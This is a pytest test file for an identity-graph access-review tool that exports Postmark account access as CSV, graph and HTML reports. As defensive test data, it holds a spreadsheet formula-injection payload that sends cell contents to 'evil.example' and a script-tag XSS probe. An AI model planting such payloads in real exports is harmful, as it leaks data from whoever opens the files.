"""The access-review pack: every export, the findings, diff, and decisions round-trip."""

import csv
import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path

import networkx as nx
import pytest
from click.testing import CliRunner
from idgraph.graph.cli import EXIT_CONFIG, cli
from idgraph.graph.decisions import DecisionsInvalid, import_decisions
from idgraph.graph.review import REVIEW_COLUMNS
from idgraph.graph.store import Store

from .fixtures import attest_fixture, fixture_secrets, sync_fixture

MEMBERS = Path(__file__).resolve().parents[2] / "connector/postmark/emulator/fixtures/members.csv"
DATA_BLOCK = '<script type="application/gzip+base64" id="report-data">'  # report.js's data
TODAY = datetime.now(UTC).date().isoformat()  # a review date between the run and today
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def pack(tmp_path, emulator, account):
    """A synced, attested fixture account (with hostile names) and its exported pack."""
    emulator.server(11002)["Name"] = EVIL_NAME
    emulator.server(11003)["Name"] = "<script>alert('x')</script>"
    db = tmp_path / "idgraph.db"
    store = Store(db)
    sync_fixture(store, emulator)
    members = tmp_path / "members.csv"
    members.write_text(
        MEMBERS.read_text()
        .replace("server:Acme Staging", f'"server:{EVIL_NAME.replace(chr(34), chr(34) * 2)}"')
        .replace("server:Billing Notifications", "server:<script>alert('x')</script>")
    )
    attest_fixture(store, members)
    store.close()
    out = tmp_path / "pack"
    result = CliRunner().invoke(cli, ["export", "--db", str(db), "--out", str(out), "--json"])
    assert result.exit_code == 0, result.output
    return db, out, json.loads(result.output)


def _csv_rows(path):
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_review_csv_columns_and_rows(pack):
    _db, out, summary = pack
    rows = list(csv.DictReader((out / "review.csv").open(encoding="utf-8-sig")))
    assert list(rows[0]) == REVIEW_COLUMNS
    assert len(rows) == summary["rows"]
    types = {r["principal_type"] for r in rows}
    assert types == {"human", "credential"}
    humans = {r["principal"] for r in rows if r["principal_type"] == "human"}
    assert len(humans) == 5
    assert {r["access_kind"] for r in rows} == {
        "postmark:member_of",
        "postmark:can_access",
        "postmark:grants",  # the Account token
        "postmark:grants; postmark:can_send_as",  # a server token: one row
    }
    dana = [
        r
        for r in rows
        if r["principal"].endswith("dana.ops@acme-corp.example")
        and r["access_kind"] == "postmark:member_of"
    ]
    assert dana[0]["access"] == "User" and dana[0]["source"] == "attested"
    assert all(
        r[c] == "" for r in rows for c in ("decision", "reviewer", "review_date", "justification")
    )
    tokens = [r for r in rows if r["principal"].startswith("postmark:server_token:")]
    assert all(re.fullmatch(r"sha256:[0-9a-f]{16} \(….{4}\)", r["principal_name"]) for r in tokens)


def test_formula_injection_is_neutralised_in_every_csv(pack):
    _db, out, _summary = pack
    files = [out / "review.csv", out / "baton-file.csv"]
    evil_seen = False
    for path in files:
        for row in _csv_rows(path):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path, cell)
                evil_seen |= cell == "'" + EVIL_NAME
    assert evil_seen


def test_graph_json_and_graphml_load_back_with_the_same_counts(pack):
    db, out, _summary = pack
    data = json.loads((out / "graph.json").read_text())
    from_json = nx.node_link_graph(data, edges="edges")
    from_graphml = nx.read_graphml(out / "graph.graphml")
    from idgraph.graph.view import load_graph

    store = Store(db)
    _run, graph = load_graph(store)
    store.close()
    for loaded in (from_json, from_graphml):
        assert loaded.number_of_nodes() == graph.number_of_nodes()
        assert loaded.number_of_edges() == graph.number_of_edges()
    assert from_graphml.nodes["postmark:server:11002"]["name"] == EVIL_NAME


def test_html_report_is_self_contained_and_escaped(pack):
    _db, out, _summary = pack
    html = (out / "report.html").read_text()
    # one script, inline, and the data it draws from (inert); the name is escaped
    assert re.findall(r"<script[^>]*>", html, re.I) == [DATA_BLOCK, "<script>"]
    assert "<script>\n/* The filter box" in html
    assert "&lt;script&gt;alert(" in html
    assert not re.search(r"<link|@import|src\s*=|url\(\s*['\"]?(https?:)?//", html, re.I)
    for heading in ("Who has access to what", "What changed", "What is risky (", "The graph"):
        assert heading in html
    assert "<svg" in html and 'id="matrix"' in html


def test_every_finding_fires_on_the_fixture(tmp_path, emulator):
    store = Store(tmp_path / "db")
    sync_fixture(store, emulator)
    from idgraph.graph.review import build_review

    missing = {f.check for f in build_review(store).findings}
    assert "attestation-missing" in missing
    members = tmp_path / "m.csv"
    members.write_text(MEMBERS.read_text())
    attest_fixture(store, members)
    context = build_review(store, options={"max_admins": 1})
    checks = {f.check for f in context.findings}
    assert checks >= {
        "domain-unverified",
        "sender-unconfirmed",
        "smtp-api-enabled",
        "server-multiple-tokens",
        "webhook-plain-http",
        "webhook-outside-allowlist",
        "webhook-no-auth",
        "webhook-credentials-in-url",
        "legacy-hook-url",
        "too-many-admins",
        "member-no-2fa",
    }
    assert "attestation-missing" not in checks
    by_node = {(f.check, f.node) for f in context.findings}
    assert ("webhook-plain-http", "postmark:webhook:11001/502") in by_node
    assert ("server-multiple-tokens", "postmark:server:11004") in by_node
    assert ("sender-unconfirmed", "postmark:sender_signature:9004") in by_node
    allowed = build_review(store, options={"allow_domains": ["example"]})
    assert "webhook-outside-allowlist" not in {f.check for f in allowed.findings}
    store.close()


def test_stale_attestation_is_flagged_in_exports(tmp_path, emulator):
    from datetime import UTC, datetime, timedelta

    from idgraph.graph.review import build_review

    store = Store(tmp_path / "db")
    sync_fixture(store, emulator)
    members = tmp_path / "m.csv"
    members.write_text(MEMBERS.read_text())
    attest_fixture(store, members, valid_days=1, now=datetime.now(UTC) - timedelta(days=2))
    context = build_review(store)
    assert "attestation-stale" in {f.check for f in context.findings}
    human_rows = [r for r in context.rows if r.principal_type == "human"]
    assert human_rows and all("attestation-stale" in r.flags for r in human_rows)
    store.close()


def test_export_refuses_a_run_that_is_not_complete(tmp_path, emulator):
    db = tmp_path / "db"
    store = Store(db)
    sync_fixture(store, emulator)
    emulator.inject("status", match="GET /webhooks", status=503, times=10_000)
    partial = sync_fixture(store, emulator)
    store.close()
    assert partial.status == "partial"
    result = CliRunner().invoke(
        cli, ["export", "--db", str(db), "--out", str(tmp_path / "o"), "--run", str(partial.run_id)]
    )
    assert result.exit_code == EXIT_CONFIG
    assert f"run {partial.run_id} is partial, not complete" in result.output
    assert not (tmp_path / "o" / "review.csv").exists()


def test_diff_and_since(tmp_path, emulator):
    db = tmp_path / "db"
    store = Store(db)
    first = sync_fixture(store, emulator)
    members = tmp_path / "m.csv"
    members.write_text(MEMBERS.read_text())
    attested = attest_fixture(store, members)
    emulator.server(11001)["Name"] = "Acme Prod"
    emulator.account["SenderSignatures"] = [
        s for s in emulator.account["SenderSignatures"] if s["ID"] != 9002
    ]
    old_token = emulator.server(11002)["ApiTokens"][0]
    emulator.server(11002)["ApiTokens"] = ["00000000-fa6e-4000-8000-00000000b0b0"]
    last = sync_fixture(store, emulator)
    store.close()
    result = CliRunner().invoke(
        cli, ["diff", str(first.run_id), str(last.run_id), "--json", "--db", str(db)]
    )
    assert result.exit_code == 0, result.output
    diff = json.loads(result.output)
    changed = diff["nodes"]["api"]["changed"]
    # the rename, and the sending scope that lost a confirmed sender
    assert [c["id"] for c in changed] == ["postmark:sending_scope:acme", "postmark:server:11001"]
    assert changed[1]["attributes"] == {"name": ["Acme Production", "Acme Prod"]}
    assert changed[0]["attributes"]["confirmed_senders"] == [4, 3]
    gone = {c["id"] for c in diff["nodes"]["api"]["disappeared"]}
    assert "postmark:sender_signature:9002" in gone
    appeared = {m["id"] for m in diff["members"] if m["change"] == "appeared"}
    assert "postmark:team_member:dana.ops@acme-corp.example" in appeared
    default = json.loads(CliRunner().invoke(cli, ["diff", "--json", "--db", str(db)]).output)
    # like with like: the latest two syncs, not the attestation and the sync after it
    assert (default["from_run"], default["to_run"]) == (first.run_id, last.run_id)
    out = tmp_path / "pack"
    exported = CliRunner().invoke(
        cli, ["export", "--db", str(db), "--out", str(out), "--since", str(attested["run_id"])]
    )
    assert exported.exit_code == 0, exported.output
    from idgraph.graph.secrets import fingerprint

    removed = list(csv.DictReader((out / "access-removed.csv").open(encoding="utf-8-sig")))
    old = f"postmark:server_token:{fingerprint(old_token)}"
    assert {(r["principal"], r["access_kind"]) for r in removed} == {
        (old, "postmark:grants"),
        (old, "postmark:can_send_as"),
    }
    assert all(r["change_since_last_review"].startswith("removed since run") for r in removed)
    rows = list(csv.DictReader((out / "review.csv").open(encoding="utf-8-sig")))
    added = {r["principal"] for r in rows if r["change_since_last_review"] == "added"}
    assert added == {"postmark:server_token:" + fingerprint("00000000-fa6e-4000-8000-00000000b0b0")}


def _fill(out: Path, decide) -> Path:
    rows = list(csv.DictReader((out / "review.csv").open(encoding="utf-8-sig")))
    for row in rows:
        decide(row)
    filled = out / "filled.csv"
    with filled.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, REVIEW_COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    return filled


def test_decisions_round_trip_and_remediation(pack):
    db, out, _summary = pack

    def decide(row):
        if row["principal"].endswith("lee@agency-partner.example"):
            row.update(decision="revoke", justification="agency contract ended")
        elif row["principal"].startswith("postmark:server_token:") and row[
            "access_kind"
        ].startswith("postmark:grants"):
            row.update(decision="keep", reviewer="ops@acme-corp.example", review_date=TODAY)

    filled = _fill(out, decide)
    result = CliRunner().invoke(
        cli,
        ["review", "import", str(filled), "--reviewer", "lead@acme-corp.example", "--db", str(db)],
    )
    assert result.exit_code == 0, result.output
    store = Store(db)
    stored = list(store.db["review_decisions"].rows)
    store.close()
    revokes = [d for d in stored if d["decision"] == "revoke"]
    keeps = [d for d in stored if d["decision"] == "keep"]
    assert len(revokes) == 2 and len(keeps) == 7
    assert {d["reviewer"] for d in revokes} == {"lead@acme-corp.example"}
    assert {d["reviewer"] for d in keeps} == {"ops@acme-corp.example"}
    steps = (out / "remediation.md").read_text()
    assert "Account > Users" in steps and "lee@agency-partner.example" in steps
    assert "No API exists" in steps and "agency contract ended" in steps


def test_invalid_decisions_store_nothing(pack):
    db, out, _summary = pack

    def decide(row):
        if row["access_kind"] == "postmark:member_of":
            row.update(decision="revoke")  # no justification
        if (
            row["principal"].endswith("sam.dev@acme-corp.example")
            and row["access_kind"] == "postmark:can_access"
        ):
            row.update(decision="maybe")
        if row["principal"].startswith("postmark:account_token:"):
            row.update(principal="postmark:account_token:sha256:0000000000000000")

    filled = _fill(out, decide)
    store = Store(db)
    with pytest.raises(DecisionsInvalid) as info:
        import_decisions(store, filled, reviewer="lead@acme-corp.example")
    problems = "\n".join(info.value.problems)
    assert "column 'justification': a revoke needs one" in problems
    assert "column 'decision': 'maybe' is not one of" in problems
    assert "column 'principal': was changed after the export" in problems
    assert re.search(r"filled\.csv: row \d+: column", problems)
    assert store.db["review_decisions"].count == 0
    store.close()
    assert not (out / "remediation.md").exists()


def test_exports_hold_no_secret(pack, account):
    _db, out, _summary = pack
    secrets = fixture_secrets(account)
    for path in out.rglob("*"):
        if path.suffix == ".xlsx":
            import zipfile

            with zipfile.ZipFile(path) as workbook:
                text = "".join(workbook.read(n).decode("utf-8") for n in workbook.namelist())
        elif path.is_file():
            text = path.read_text(encoding="utf-8")
        else:
            continue
        assert [s for s in secrets if s in text] == [], path


def test_a_member_outside_the_verified_domains_is_a_finding(tmp_path, emulator):
    """What `attest corroborate` lists is also a finding: the agency's address is none of
    the account's verified domains."""
    from idgraph.graph.review import build_review

    store = Store(tmp_path / "db")
    sync_fixture(store, emulator)
    attest_fixture(store)
    outside = {f.node for f in build_review(store).findings if f.check == "member-outside-domains"}
    store.close()
    assert outside == {"postmark:team_member:lee@agency-partner.example"}


def test_access_to_a_deleted_server_is_named_and_flagged(tmp_path, emulator, account):
    """Attested access to a server the API no longer shows is a finding, and its rows say so
    instead of showing a bare id as if nothing happened."""
    from idgraph.graph.review import build_review

    store = Store(tmp_path / "db")
    sync_fixture(store, emulator)
    attest_fixture(store)
    emulator.account["Servers"] = [s for s in emulator.account["Servers"] if s["ID"] != 11001]
    assert sync_fixture(store, emulator).status == "complete"
    context = build_review(store)
    store.close()
    gone = [r for r in context.rows if r.resource == "postmark:server:11001"]
    assert gone and all("access-to-gone-resource" in r.flags for r in gone)
    assert all("not in this run" in r.resource_name for r in gone)
    assert "postmark:server:11001" in {
        f.node for f in context.findings if f.check == "access-to-gone-resource"
    }


def test_findings_fail_on_a_severity_for_ci(tmp_path, emulator):
    db = tmp_path / "db"
    store = Store(db)
    sync_fixture(store, emulator)
    store.close()
    runner = CliRunner()
    high = runner.invoke(cli, ["findings", "--db", str(db), "--fail-on", "high", "--json"])
    assert high.exit_code == 1  # the fixture has high findings (e.g. plain-http webhooks)
    assert "severity high or worse" in high.stderr
    none = runner.invoke(cli, ["findings", "--db", str(db), "--json"])
    assert none.exit_code == 0


def test_the_review_rows_go_before_the_graph_exports(pack, monkeypatch):
    """The files that read the review are written first; its rows, and the graph the
    report loaded, are let go before the graph exports stream the whole graph, with a small
    SQLite page cache (its sorter spills
    to disk: no ordered run held in memory); the counts the command prints stay, and the
    files are listed in the order asked for."""
    from idgraph.graph.exporters.graph_files import GraphJsonExporter, GraphMLExporter
    from idgraph.graph.host import write_review_pack

    db, _out, summary = pack
    held: dict[str, bool] = {}
    cache: dict[str, int] = {}
    for exporter in (GraphJsonExporter, GraphMLExporter):
        original = exporter.export

        def spy(self, context, out_dir, original=original):
            held[self.name] = context._access is not None or context._graph is not None
            cache[self.name] = context.store.conn.execute("PRAGMA cache_size").fetchone()[0]
            return original(self, context, out_dir)

        monkeypatch.setattr(exporter, "export", spy)
    out = db.parent / "again"
    context, written, _skipped = write_review_pack(
        db, out, formats=["graph-json", "review-csv", "graphml", "html"]
    )
    assert held == {"graph-json": False, "graphml": False}
    assert cache == {"graph-json": -8192, "graphml": -8192}  # KiB: 8 MB, not 64
    assert [Path(p).name for p in written] == [
        "graph.json",
        "review.csv",
        "graph.graphml",
        "report.html",
        "manifest.intoto.json",  # last: it lists the others
    ]
    assert context.row_count == summary["rows"] == len(_csv_rows(out / "review.csv")) - 1
    assert len(context.findings) == summary["findings"]
    assert len(context.removed) == summary["removed"]


def test_graph_json_written_in_chunks_is_the_whole_document_byte_for_byte(pack):
    import orjson
    from idgraph.graph.exporters._files import json_items, json_text
    from idgraph.graph.view import load_graph

    db, out, _summary = pack
    store = Store(db)
    run, graph = load_graph(store)
    store.close()
    nodes = [{"id": n, **d} for n, d in graph.nodes(data=True)]
    edges = [
        {**d, "data_source": d.get("source"), "source": u, "target": v, "key": k}
        for u, v, k, d in graph.edges(keys=True, data=True)
    ]
    whole = {
        "directed": True,
        "multigraph": True,
        "graph": {"run": run.id, "finished": run.finished},
        "nodes": nodes,
        "edges": edges,
    }
    expected = orjson.dumps(whole, default=str, option=orjson.OPT_NON_STR_KEYS)
    assert (out / "graph.json").read_bytes() == expected
    # chunk boundaries add nothing and lose nothing
    assert "".join(json_items(edges, size=3)) == json_text(edges)[1:-1]
